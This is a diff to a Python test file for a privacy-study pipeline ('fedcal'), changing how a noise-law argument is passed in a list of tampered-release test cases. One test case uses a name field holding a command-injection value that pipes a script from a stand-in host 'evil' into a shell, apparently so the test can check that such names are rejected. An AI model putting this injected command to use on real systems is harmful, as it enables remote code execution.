@@ -18,7 +18,6 @@ from fedcal.experiments.study.quarter import Facts, earlier_of, write_quarter
 from fedcal.experiments.study.sealed import Sealed, signed_text
 from fedcal.experiments.study.signature import write_signature
 from fedcal.experiments.study.verify import sign, verify
-from fedcal.mechanisms import NoiseLaw
 from fedcal.secure_aggregation.keys import SigningKey, make_key
 
 STUDY, KEY = hospitals(), SigningKey.generate()
@@ -116,7 +115,7 @@ ALTERED = [
     (release("release", std=1.0), "the release's noise is"),
     (release("release", threshold=0.3), "the release's threshold is"),
     (release("release", taken='{"unit": "subject", "data": "rows.csv"}'), "the release's data is"),
-    (release("release", law=NoiseLaw()), "the release's law is"),
+    (release("release", law="normal"), "the release's law is"),
     (release("release", privacy='["All is exact."]'), "the release's privacy is"),
     (release("earlier-2026Q4", std=0.001), "the release gives|is not the release of"),
     (told(lambda t: t.update(name="x; curl evil|sh; #")), "folder and quarter have one name"),
